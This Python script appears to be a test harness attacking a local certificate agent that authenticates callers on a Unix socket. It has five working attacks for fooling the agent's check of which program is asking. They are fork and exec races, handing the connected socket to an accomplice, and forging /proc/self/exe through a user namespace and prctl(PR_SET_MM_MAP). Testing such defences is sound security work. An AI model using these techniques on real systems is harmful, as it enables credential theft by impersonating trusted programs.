"""Attacks on a cert-agent by an unprivileged process of the victim's own uid. Each would work on an agent that checks less.

Usage: attack.py ATTACK AGENT_SOCKET SIGNED_PROGRAM ACCOMPLICE
ACCOMPLICE is started with a connected socket as its standard input, asks there, and prints what it got.
"""

import ctypes
import mmap
import os
import re
import socket
import struct
import sys
import time

attack, agent, signed, accomplice = sys.argv[1:5]

# The agent accepts and looks at us before we go on.
SETTLE = 0.5


def connect():
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(agent)
    time.sleep(SETTLE)
    return connection


def ask(connection, program):
    """Becomes a program that asks on this connection."""
    os.dup2(connection.fileno(), 0)
    os.execv(program, [program, "fetch", "--stdin"])


def fork():
    """The one that connected is gone, and a child it left behind asks."""
    connection = connect()
    parent = os.getpid()
    output = os.dup(1)
    if os.fork() > 0:
        os._exit(0)
    while os.getppid() == parent:
        time.sleep(0.01)
    time.sleep(SETTLE)
    os.dup2(output, 1)
    ask(connection, accomplice)


def exec_after_connect():
    """Connects unsigned, then becomes the signed program."""
    ask(connect(), signed)


def pass_on(become_signed):
    """Hands the connected socket to an accomplice; may become the signed program itself meanwhile."""
    ours, theirs = socket.socketpair()
    if os.fork() == 0:
        ours.close()
        _, handles, _, _ = socket.recv_fds(theirs, 1, 1)
        time.sleep(2 * SETTLE)
        ask(socket.socket(fileno=handles[0]), accomplice)
    theirs.close()
    connection = connect()
    socket.send_fds(ours, [b"x"], [connection.fileno()])
    connection.close()
    if become_signed:
        quiet = os.open("/dev/null", os.O_WRONLY)
        os.dup2(quiet, 1)
        os.execv(signed, [signed, "hold"])
    os.wait()


def forged_exe_link():
    """In a user namespace of its own, makes /proc/PID/exe point at the signed program; then a child of it asks."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = libc.mremap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    libc.mremap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_size_t, ctypes.c_int, ctypes.c_void_p]
    libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]

    def done(result, what):
        if result in (-1, ctypes.c_void_p(-1).value):
            sys.exit(f"{what}: {os.strerror(ctypes.get_errno())}")
        return result

    new_user_namespace = 0x10000000
    done(libc.unshare(new_user_namespace), "unshare")
    own = os.readlink("/proc/self/exe")
    with open("/proc/self/maps") as maps:
        mapped = [re.match(r"(\w+)-(\w+) (\S+)", line).groups() for line in maps if line.rstrip().endswith(own)]
    # The kernel lets the link change only once nothing of the old program is mapped: put a copy over each mapping.
    for start, end, permissions in mapped:
        start, size = int(start, 16), int(end, 16) - int(start, 16)
        copy = done(libc.mmap(None, size, mmap.PROT_READ | mmap.PROT_WRITE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, 0), "mmap")
        if "r" in permissions:
            ctypes.memmove(copy, start, size)
        flags = sum(bit for letter, bit in zip("rwx", (mmap.PROT_READ, mmap.PROT_WRITE, mmap.PROT_EXEC)) if letter in permissions)
        done(libc.mprotect(copy, size, flags), "mprotect")
        may_move_to_fixed = 3
        done(libc.mremap(copy, size, size, may_move_to_fixed, start), "mremap")
    # PR_SET_MM_MAP takes the whole layout: ours as it is, but for the program.
    with open("/proc/self/stat") as line:
        fields = line.read().rsplit(") ", 1)[1].split()
    with open("/proc/self/maps") as maps:
        heap = [int(line.split()[0].split("-")[1], 16) for line in maps if line.rstrip().endswith("[heap]")]

    def field(number):  # as proc_pid_stat(5) counts them
        return int(fields[number - 3])

    code, data, brk, stack = (field(26), field(27)), (field(45), field(46)), field(47), field(28)
    arguments, environment, no_auxv = (field(48), field(49)), (field(50), field(51)), (0, 0)
    program = os.open(signed, os.O_RDONLY)
    layout = struct.pack("=12QIi", *code, *data, brk, *(heap or [brk]), stack, *arguments, *environment, *no_auxv, program)
    set_mm, set_mm_map = 35, 14
    done(libc.prctl(set_mm, set_mm_map, layout, ctypes.c_ulong(len(layout)), 0), "prctl")
    if os.readlink("/proc/self/exe") != signed:
        sys.exit("the link is not forged")
    connection = connect()
    if os.fork() == 0:
        ask(connection, accomplice)
    os.wait()
    os._exit(0)


{
    "fork": fork,
    "exec-after-connect": exec_after_connect,
    "passed-on": lambda: pass_on(False),
    "passed-on-then-exec": lambda: pass_on(True),
    "forged-exe-link": forged_exe_link,
}[attack]()
